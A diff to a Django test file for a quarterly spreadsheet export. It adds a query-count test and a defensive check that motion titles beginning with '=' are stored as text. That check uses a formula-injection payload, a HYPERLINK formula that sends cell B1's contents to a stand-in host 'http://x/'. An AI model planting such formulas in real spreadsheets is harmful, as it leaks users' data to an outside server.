@@ -42,6 +42,9 @@ SHEETS = [
 ]
 
 
+FORMULA = '=HYPERLINK("http://x/?"&B1,"点击")'
+
+
 def _pay(union, amount: str, paid_on: date) -> ReliefPayment:
     app = ReliefApplication.objects.create(
         organisation=union,
@@ -102,7 +105,7 @@ def quarter(city, admin_user, staff_user, chair_a, chair_b):
             (date(2026, 6, 30), None, ""),  # last quarter
         ]
     ):
-        motion = make_motion(session, title=f"提案{i}")
+        motion = make_motion(session, title=FORMULA if i == 1 else f"提案{i}")
         Motion.objects.filter(pk=motion.pk).update(
             submitted_on=submitted,
             answered_on=answered,
@@ -159,7 +162,8 @@ def test_the_workbook_has_its_sheets_headers_frozen_and_no_formulas(quarter, cit
             written += 1
             for cell in row:
                 assert cell.data_type != "f"
-                assert not (isinstance(cell.value, str) and cell.value.startswith("="))
+                if isinstance(cell.value, str) and cell.value.startswith("="):
+                    assert cell.quotePrefix  # kept as text (security.md F1)
         assert ws.column_dimensions["A"].width >= 10
     assert rows == written
     unions = wb[t("Unions")]
@@ -240,7 +244,7 @@ def test_the_consolidated_report_sums_counted_reports_and_counts_overrides(quart
 def test_motions_competitions_and_honours_of_the_quarter(quarter, city):
     _, wb = _workbook(quarter, city.city)
     motions, counts = _data(wb[t("Motions")])
-    assert sorted(r[2] for r in motions) == ["提案0", "提案1"]
+    assert sorted(r[2] for r in motions) == [FORMULA, "提案0"]
     assert "2" in counts[2] and counts[0] == t("Total")
     competitions, total = _data(wb[t("Competitions")])
     assert len(competitions) == 1 and competitions[0][-1] == 1 == total[-1]
@@ -267,6 +271,19 @@ def test_the_kpi_sheet_reads_the_snapshot_of_the_quarters_last_month(quarter, ci
     rate = kpi.rate(snap)
     assert rows[0][col] == (pytest.approx(float(rate) / 100) if rate is not None else None)
     assert ws.cell(row=2, column=col + 1).number_format == "0.0%"
+
+
+def test_the_workbook_costs_the_same_queries_for_more_rows(
+    quarter, city, django_assert_max_num_queries
+):
+    summary.ensure_snapshots(quarter)
+    with django_assert_max_num_queries(12):
+        summary.write_summary(quarter, city.city, BytesIO())
+    for day in range(1, 20):
+        _pay(city.union_b, "10.00", date(2026, 8, day))
+    with django_assert_max_num_queries(12):
+        rows = summary.write_summary(quarter, city.city, BytesIO())
+    assert rows >= 19
 
 
 # --- The web flow ----------------------------------------------------------------------------
